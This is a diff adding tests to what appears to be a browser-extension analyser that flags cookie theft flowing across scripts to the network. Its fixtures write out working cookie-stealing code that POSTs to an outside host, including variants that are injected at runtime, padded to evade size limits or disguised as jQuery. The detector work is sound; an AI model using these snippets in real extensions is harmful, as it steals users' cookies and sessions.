@@ -134,6 +134,59 @@ describe('what one script declares and another uses', () => {
   });
 });
 
+describe('what scripts that are read together declare', () => {
+  const send = `function send(d) { fetch('https://in.gather.dev/a', { method: 'POST', body: d }) }`;
+  const taken = 'chrome.cookies.getAll({}, (all) => send(JSON.stringify(all)))';
+  const page = (...scripts: readonly string[]): string =>
+    scripts.map((script) => `<script src="${script}"></script>`).join('');
+  const pages = (other: string): Readonly<Record<string, string>> => ({
+    'send.js': send,
+    'a.js': 'send("hi")',
+    'one.html': page('send.js', 'a.js'),
+    'two.html': page('send.js', other),
+  });
+
+  it('is still there for a script that is injected beside them', () => {
+    const files = {
+      'send.js': send,
+      'a.js': 'send("hi")',
+      'late.js': 'send(document.cookie)',
+      'worker.js': `chrome.scripting.executeScript({ target: { tabId: 1 }, files: ['late.js'] })`,
+    };
+    assert.deepEqual(
+      flowsBetween(files, {
+        content_scripts: [{ matches: ['<all_urls>'], js: ['send.js', 'a.js'] }],
+      }),
+      ['cookies late.js > network send.js (theft, high)'],
+    );
+  });
+
+  it('is still there on another page for a script that is too large', () => {
+    const large = `/* ${'x'.repeat(130_000)} */ ${taken}`;
+    assert.deepEqual(flowsBetween({ ...pages('large.js'), 'large.js': large }), [
+      'cookies large.js > network send.js (theft, high)',
+    ]);
+  });
+
+  it('is still there on another page for what calls itself a library', () => {
+    const name = 'jquery-3.7.1.min.js';
+    const named = `/*! jQuery v3.7.1 | (c) OpenJS */\n${taken}`;
+    assert.deepEqual(flowsBetween({ ...pages(name), [name]: named }), [
+      `cookies ${name} > network send.js (theft, high)`,
+    ]);
+  });
+
+  it('is still there where two groups end with one script', () => {
+    const files = {
+      ...pages('large.js'),
+      'large.js': `/* ${'x'.repeat(130_000)} */ ${taken}`,
+      'b.js': 'const other = 1',
+      'three.html': page('b.js', 'a.js'),
+    };
+    assert.deepEqual(flowsBetween(files), ['cookies large.js > network send.js (theft, high)']);
+  });
+});
+
 describe('modules of one service worker', () => {
   const handlers = `export class Handlers {
     async load({ url }) { const answer = await fetch(url); return answer.text(); }
